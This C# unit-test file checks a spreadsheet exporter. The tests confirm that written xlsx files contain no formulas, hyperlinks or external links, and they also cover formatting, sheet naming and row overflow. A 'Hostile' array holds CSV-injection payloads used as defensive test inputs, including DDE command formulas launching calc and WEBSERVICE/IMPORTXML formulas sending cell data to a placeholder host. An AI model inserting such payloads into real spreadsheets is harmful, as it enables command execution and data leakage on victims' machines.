using System.Globalization;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using DualRandom.Sql.Documents;
using DualRandom.Testing;
using Sheet = DualRandom.Sql.Documents.Sheet;
using SheetNames = DualRandom.Sql.Documents.SheetNames;

namespace DualRandom.Sql.Tests.Documents;

public sealed class SheetFileTests : IDisposable
{
    /// <summary>OWASP's CSV injection, with what else spreadsheets are known to run.</summary>
    private static readonly string[] Hostile =
    [
        "=1+2", "+1+2", "-1+2", "@SUM(1,2)", "\t=1+2", "\r=1+2", "\n=1+2", "＝1+2", "＋1+2", "－1+2", "＠SUM(1,2)", "  =1+2", "\u3000=1+2", "\u00A0=1+2", "\"=1+2", "'=1+2", "“=1+2",
        "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x\",\"点我\")", "=WEBSERVICE(\"http://x/\"&A1)", "@SUM(1+9)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "=10+20+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "-5", "+8613800000000",
    ];

    private static readonly string[] Harmless = ["洛阳鼎盛贸易有限公司", "A-1", "3 = 3", "0012", "1e5", "_x000D_", "第1栋–2号", ""];

    private readonly TemporaryFolder _folder = new();

    private string Book => _folder.At("book.xlsx");

    [Fact]
    public void Nothing_of_the_data_is_a_formula_and_every_text_is_read_back_as_it_was()
    {
        string[] all = [.. Hostile, .. Harmless];
        SheetFile.Write(Book, new Sheet("=cmd|'/C calc'!A0", [new SheetColumn("=1+2", 20), new SheetColumn("n", 9, CellKind.Change)], [.. all.Select(t => (IReadOnlyList<object?>)[t, -5L])]));
        using var document = SpreadsheetDocument.Open(Book, isEditable: false);
        var part = document.WorkbookPart!.WorksheetParts.Single();
        var rows = part.Worksheet.Descendants<Row>().Skip(1).ToList();
        var formats = document.WorkbookPart.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<CellFormat>().ToList();
        Assert.Empty(part.Worksheet.Descendants<CellFormula>());
        Assert.Empty(part.HyperlinkRelationships);
        Assert.Empty(part.Parts);
        Assert.Empty(document.WorkbookPart.ExternalWorkbookParts);
        foreach (var (text, row) in all.Zip(rows))
        {
            var cells = row.Elements<Cell>().ToList();
            Assert.Equal(CellValues.InlineString, cells[0].DataType!.Value);
            Assert.Equal(text.Replace("_x", "_x005F_x", StringComparison.Ordinal).Replace('\r', '\n'), cells[0].InnerText);
            Assert.Equal(Hostile.Contains(text, StringComparer.Ordinal), formats[(int)cells[0].StyleIndex!.Value].QuotePrefix?.Value ?? false);
            Assert.Equal("-5", cells[1].CellValue!.Text);
            Assert.Null(cells[1].DataType);
        }

        Assert.Empty(new OpenXmlValidator().Validate(document).Select(e => $"{e.Path?.XPath} {e.Description}"));
    }

    [ToolFact("soffice")]
    public void LibreOffice_shows_the_texts_and_runs_none_of_them()
    {
        string[] oneLine = [.. Hostile.Where(h => h.IndexOfAny(['\t', '\r', '\n']) < 0)];
        SheetFile.Write(Book, new Sheet("表", [new SheetColumn("文本", 40), new SheetColumn("数", 9, CellKind.Number)], [.. oneLine.Select(t => (IReadOnlyList<object?>)[t, -5L])]));
        Tools.Convert("csv:Text - txt - csv (StarCalc):9,34,76", _folder.FullPath, Book);
        var lines = File.ReadAllLines(_folder.At("book.csv")).Skip(1).Select(l => l.Split('\t')).ToList();
        Assert.Equal(oneLine, lines.Select(l => l[0].StartsWith('"') && l[0].EndsWith('"') && l[0].Length > 1 ? l[0][1..^1].Replace("\"\"", "\"", StringComparison.Ordinal) : l[0]));
        Assert.All(lines, l => Assert.Equal("-5", l[1]));
    }

    [Fact]
    public void Every_kind_is_typed_formatted_and_valid()
    {
        var day = new DateOnly(2026, 10, 31);
        var look = new SheetLook(SheetLook.Plain("内部 & 资料"), "第 &P 页 共 &N 页", "是", "否");
        SheetFile.Write(Book, look, [
            new Sheet("说明", [new SheetColumn("", 20), new SheetColumn("", 60)], [[new SheetHeading("题")], [], [new SheetLink("数据", "数据"), "一"]], IsProse: true),
            new Sheet(
                "数据",
                [
                    new SheetColumn("等级", 9, CellKind.Tier), new SheetColumn("数", 9, CellKind.Number), new SheetColumn("增减", 9, CellKind.Change), new SheetColumn("比例", 9, CellKind.Share),
                    new SheetColumn("百分点", 9, CellKind.Points), new SheetColumn("一位", 9, CellKind.OneDecimal), new SheetColumn("两位", 9, CellKind.TwoDecimals),
                    new SheetColumn("是否", 9, CellKind.Flag), new SheetColumn("日", 12, CellKind.Day), new SheetColumn("代码", 12),
                ],
                [["D", 12345L, -7L, 0.125, -1.25, 3.14, 2.5, true, day, "0012"], ["A", null, null, null, null, null, null, false, null, null]]),
        ]);
        using var document = SpreadsheetDocument.Open(Book, isEditable: false);
        Assert.Empty(new OpenXmlValidator().Validate(document).Select(e => $"{e.Path?.XPath} {e.Description}"));
        var sheet = ((WorksheetPart)document.WorkbookPart!.GetPartById("rId3")).Worksheet;
        Assert.Equal(
            ["D", "12345", "-7", "0.125", "-1.25", "3.14", "2.5", "1", "46326", "0012"],
            sheet.Descendants<Row>().Skip(1).First().Elements<Cell>().Select(c => c.CellValue?.Text ?? c.InnerText));
        Assert.Equal("A1:J3", sheet.Descendants<AutoFilter>().Single().Reference!.Value);
        Assert.Equal(PaneStateValues.Frozen, sheet.Descendants<Pane>().Single().State!.Value);
        Assert.Equal(
            [ConditionalFormatValues.CellIs, ConditionalFormatValues.DataBar, ConditionalFormatValues.ColorScale],
            sheet.Descendants<ConditionalFormattingRule>().Select(r => r.Type!.Value).Distinct());
        Assert.Equal("&C内部 && 资料", sheet.Descendants<OddHeader>().Single().Text);
        Assert.Equal("'数据'!A1", ((WorksheetPart)document.WorkbookPart.GetPartById("rId2")).Worksheet.Descendants<Hyperlink>().Single().Location!.Value);
        Assert.Equal(46326, new DateTime(2026, 10, 31, 0, 0, 0, DateTimeKind.Unspecified).ToOADate(), tolerance: 0);
    }

    [Fact]
    public void Names_are_short_allowed_and_unique_and_a_long_table_goes_on_in_the_next_sheet()
    {
        static Sheet Of(string name, int rows) =>
            new(name, [new SheetColumn("n", 9)], [.. Enumerable.Range(0, rows).Select(i => (IReadOnlyList<object?>)[i.ToString(CultureInfo.InvariantCulture)])]);
        var long31 = new string('长', 40);
        var fit = SheetNames.Fit([Of("a/b[c]", 1), Of("A b c ", 0), Of(long31, 7), Of(long31, 1), Of("''", 1), Of("说明", 1)], ["说明"], mostRows: 4);
        Assert.Equal(["a b c", "A b c (2)", new string('长', 31), new string('长', 27) + " (2)", new string('长', 27) + " (3)", new string('长', 27) + " (4)", "-", "说明 (2)"], fit.Select(s => s.Name));
        Assert.Equal([1, 0, 3, 3, 1, 1, 1, 1], fit.Select(s => s.Rows.Count));
        Assert.Equal(["0", "1", "2", "3", "4", "5", "6"], fit.Skip(2).Take(3).SelectMany(s => s.Rows).Select(r => (string)r[0]!));
        Assert.All(fit, s => Assert.True(s.Name.Length <= 31));
    }

    [Fact]
    public void A_sheet_longer_than_a_spreadsheet_takes_is_written_as_two()
    {
        IReadOnlyList<object?> row = [1L];
        SheetFile.Write(Book, new Sheet("长表", [new SheetColumn("n", 9, CellKind.Number)], [.. Enumerable.Repeat(row, SheetNames.MostRows + 4)]));
        using var document = SpreadsheetDocument.Open(Book, isEditable: false);
        Assert.Equal(["长表", "长表 (2)"], document.WorkbookPart!.Workbook.Sheets!.Elements<DocumentFormat.OpenXml.Spreadsheet.Sheet>().Select(s => s.Name!.Value));
        using var reader = DocumentFormat.OpenXml.OpenXmlReader.Create(document.WorkbookPart.GetPartById("rId3"));
        var rows = 0;
        while (reader.Read())
        {
            rows += reader.ElementType == typeof(Row) && reader.IsStartElement ? 1 : 0;
        }

        Assert.Equal(1 + 5, rows);
    }

    public void Dispose() => _folder.Dispose();
}
